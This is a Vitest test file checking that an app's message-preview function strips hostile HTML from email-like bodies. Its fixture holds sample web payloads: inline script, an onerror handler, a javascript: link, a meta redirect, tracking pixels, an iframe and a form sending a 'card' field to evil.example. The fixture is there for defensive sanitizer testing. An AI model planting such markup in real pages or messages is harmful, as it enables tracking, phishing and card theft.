// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { messageDocument } from '../../../src/renderer/src/components/notifications/message-document'

/** Every trick the Demo shop's hostile message plays, in one body. */
const HOSTILE_BODY = `<meta http-equiv="refresh" content="0;url=https://evil.example/r">
<style>@import url(https://tracker.example/a.css); body { background: url(https://tracker.example/bg.png) }</style>
<script>window.__pwned = 1</script><h1>Track your order</h1>
<p style="background:url('https://tracker.example/p.png')">Hi</p>
<img src="https://tracker.example/open.gif"><img src="x" onerror="window.__pwned = 2">
<a href="javascript:window.__pwned=3">Bonus</a> <a href="https://demo.example.com/orders/track">Track</a>
<form action="https://evil.example/c"><input name="card"><button>Go</button></form>
<iframe src="https://evil.example/f"></iframe><svg><image href="https://tracker.example/s.png"/></svg>`

describe('a message body as a preview document', () => {
  it('keeps none of the hostile markup that runs, fetches, submits or navigates', () => {
    const doc = messageDocument(HOSTILE_BODY, null)
    const html = doc.srcdoc.toLowerCase()
    for (const bad of [
      '<script',
      'onerror',
      'javascript:',
      'http-equiv="refresh"',
      '<form',
      '<iframe',
      'url(',
      'tracker.example',
      'evil.example',
      ' href=',
    ])
      expect(html, bad).not.toContain(bad)
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src 'none'`)
    expect(doc.links).toEqual(['https://demo.example.com/orders/track'])
    expect(doc.images).toEqual(['https://tracker.example/open.gif'])
    expect(doc.blockedImages).toBe(2)
    expect(html).toContain('track your order')
  })

  it('shows images only as the data: URLs main fetched, once images are on', () => {
    const body =
      '<img src="https://cdn.example.com/a.png" alt="Sale"><img src="http://plain.example.com/b.png">'
    const off = messageDocument(body, null)
    expect(off.srcdoc).not.toContain('cdn.example.com')
    expect(off.srcdoc).toContain('[image: Sale]')
    const on = messageDocument(body, {
      'https://cdn.example.com/a.png': 'data:image/png;base64,AAAA',
    })
    expect(on.srcdoc).toContain('src="data:image/png;base64,AAAA"')
    expect(on.srcdoc).toContain('img-src data:')
    expect(on.srcdoc).not.toContain('plain.example.com')
    expect(on.blockedImages).toBe(1)
  })
})
